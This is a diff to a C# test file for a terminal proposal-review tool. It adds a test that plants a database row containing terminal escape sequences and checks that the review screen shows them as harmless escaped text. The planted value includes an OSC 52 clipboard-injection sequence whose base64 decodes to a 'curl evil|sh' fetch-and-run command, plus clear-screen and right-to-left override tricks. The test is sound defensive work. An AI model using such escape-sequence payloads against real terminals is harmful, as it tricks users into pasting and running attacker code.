@@ -169,6 +169,36 @@ public sealed class QueueReviewTests : IDisposable
     }
 
     [Fact]
+    public async Task Review_in_color_shows_a_planted_rows_escape_sequences_as_text_never_to_the_terminal()
+    {
+        // The store refuses these at every door; a row planted past them must still not reach the terminal raw.
+        using (var connection = new Microsoft.Data.Sqlite.SqliteConnection($"Data Source={_reviewed.DbPath};Pooling=False"))
+        {
+            connection.Open();
+            using Microsoft.Data.Sqlite.SqliteCommand plant = connection.CreateCommand();
+            plant.CommandText = """
+                INSERT INTO supervise_proposals (id, bottle_slug, tool, proposed_file, justification, arrival_timestamp, archived, current_file)
+                VALUES ('planted', 'bottle-a', 'pipelock-block', $file, $justification, '2026-11-01T00:00:00.0000000Z', 0, 'a.example' || char(10));
+                """;
+            plant.Parameters.AddWithValue("$file", "a.example\n\u001B]52;c;Y3VybCBldmlsfHNo\u0007evil.example\n");
+            plant.Parameters.AddWithValue("$justification", "please \u001B[2J\u001B[H\u202Eapprove");
+            plant.ExecuteNonQuery();
+        }
+
+        using TmuxSession terminal = Review(_reviewed);
+        string screen = await terminal.WaitForAsync("[q]uit:");
+
+        // A clear-screen that reached the terminal would have wiped the header above it.
+        Assert.Contains(" 1 of 1 pending", screen, StringComparison.Ordinal);
+        Assert.Contains("please \\x1b[2J\\x1b[H<U+202E>approve", screen, StringComparison.Ordinal);
+        Assert.Contains("+\\x1b]52;c;Y3VybCBldmlsfHNo\\x07evil.example", screen, StringComparison.Ordinal);
+        string added = terminal.Screen(withEscapes: true).Split('\n').Single(l => l.Contains("+\\x1b]52", StringComparison.Ordinal));
+        Assert.Contains("32m", added, StringComparison.Ordinal);
+        terminal.TypeLine("q");
+        await terminal.WaitForAsync("[exited 0]");
+    }
+
+    [Fact]
     public void Review_without_a_terminal_exits_2_and_names_the_commands_for_scripts()
     {
         CommandResult result = _reviewed.Host("queue", "review");
@@ -186,7 +216,7 @@ public sealed class QueueReviewTests : IDisposable
         using (var terminal = new TmuxSession(show))
         {
             await terminal.WaitForAsync("[exited 0]");
-            Assert.Contains("\e[32m+c.example", terminal.Screen(withEscapes: true), StringComparison.Ordinal);
+            Assert.Contains("32m", terminal.Screen(withEscapes: true).Split('\n').Single(l => l.Contains("+c.example", StringComparison.Ordinal)), StringComparison.Ordinal);
         }
 
         using (var terminal = new TmuxSession([.. show, "--no-color"]))
